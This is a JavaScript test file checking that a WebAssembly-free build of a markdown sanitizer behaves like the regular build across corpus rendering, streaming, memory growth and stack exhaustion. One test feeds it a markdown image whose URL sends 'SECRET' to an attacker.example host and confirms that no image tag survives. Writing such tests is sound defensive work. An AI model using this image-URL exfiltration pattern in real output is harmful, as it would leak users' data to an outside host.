// The entry without WebAssembly (`safemark/lite/nowasm`: the lite wasm compiled to
// JavaScript by wasm2js) against the lite entry it is built from: on every corpus document,
// under every corpus policy, its HTML and findings are byte for byte lite's, in batch and
// streamed with the tail; memory growth (a new ArrayBuffer in wasm2js) keeps the glue's views
// fresh; stack exhaustion at every point of a call leaves it usable; and it initializes and
// renders where `WebAssembly` does not exist at all.

import test from 'node:test';
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import * as lite from '../dist/lite-node.js';
import * as nowasm from '../dist/lite-nowasm-node.js';
import { memoryBytes } from '../dist/nowasm/safemark_wasm.js';
import { corpus, unsafeBits, answerOfSize, documents, policies } from './corpus.js';
import { everyApiWorks, unwindThousands } from './unwind.js';


test('survives hundreds of unwinds by stack exhaustion inside its calls', () => {
  const s = new nowasm.Sanitizer({ links: { allow: ['https://docs.example.org/'] } });
  // Fewer than the wasm entries' 1,500: in JavaScript most attempts run out of stack before
  // the call starts, and a round costs a hundred times more (600 took up to 319 s in CI,
  // 4,412 rounds and 187,606 attempts out of stack before a call). First in this file: once
  // the corpus and the memory growth below have run the module's JavaScript hot, V8's
  // optimized frames need less stack inside a call than the glue needs before it, and
  // nearly every attempt runs out before the call (the clean-clone CI run on 5176649: 0
  // unwound in 20,000 rounds, 18 minutes; here then 213 in 14,730; run first, 200 within
  // the first rounds).
  unwindThousands(nowasm, s, 200);
  everyApiWorks(nowasm, s, { html: false });
});

test('nowasm renders every corpus document as lite does', () => {
  let compared = 0;
  for (const policy of policies) {
    const a = new nowasm.Sanitizer(policy);
    const b = new lite.Sanitizer(policy);
    for (const doc of documents) {
      const x = a.inspect(doc);
      const y = b.inspect(doc);
      assert.equal(x.html, y.html, doc);
      assert.deepEqual(x.findings, y.findings, doc);
      assert.equal(a.sanitizeHtml(doc), b.sanitizeHtml(doc), doc);
      assert.deepEqual(unsafeBits(x.html), [], doc);
      compared++;
    }
  }
  console.log(`# nowasm = lite on ${compared} renders`);
  assert.ok(compared > 1000);
});

test('nowasm streams as lite does, tail included', () => {
  const policy = corpus.policies.allowlist ?? {};
  let states = 0;
  for (const doc of [answerOfSize(20000), ...corpus.cases.map((c) => c.input)]) {
    const a = new nowasm.MarkdownStream(policy);
    const b = new lite.MarkdownStream(policy);
    for (let i = 0; i < doc.length; i += 5) {
      const chunk = doc.slice(i, i + 5);
      assert.deepEqual(a.push(chunk), b.push(chunk), doc);
      states++;
    }
    assert.equal(a.finish(), b.finish());
  }
  console.log(`# ${states} stream states equal`);
});

test('memory growth: the glue reads the new memory, not the old copy', () => {
  const before = memoryBytes();
  const policy = { limits: { max_input_bytes: 4_000_000 } };
  const doc = answerOfSize(3_000_000);
  const html = nowasm.renderMarkdown(doc, policy);
  assert.ok(memoryBytes() > before + 8_000_000, `memory grew from ${before} to ${memoryBytes()}`);
  assert.equal(html, lite.renderMarkdown(doc, policy));
  // After growth, small calls (views made again) still agree.
  for (const doc2 of documents.slice(0, 200)) assert.equal(nowasm.renderMarkdown(doc2), lite.renderMarkdown(doc2));
});

test('initializes and renders where WebAssembly does not exist', () => {
  const entry = new URL('../dist/lite-nowasm.js', import.meta.url).href;
  const script = `
    delete globalThis.WebAssembly;
    const m = await import(${JSON.stringify(entry)});
    await m.init();
    m.initSync();
    process.stdout.write(m.renderMarkdown('# hi ![x](https://attacker.example/p.png?d=SECRET)'));`;
  const out = execFileSync(process.execPath, ['--input-type=module', '-e', script], { encoding: 'utf8' });
  assert.equal(out, lite.renderMarkdown('# hi ![x](https://attacker.example/p.png?d=SECRET)'));
  assert.ok(!out.includes('<img'));
});
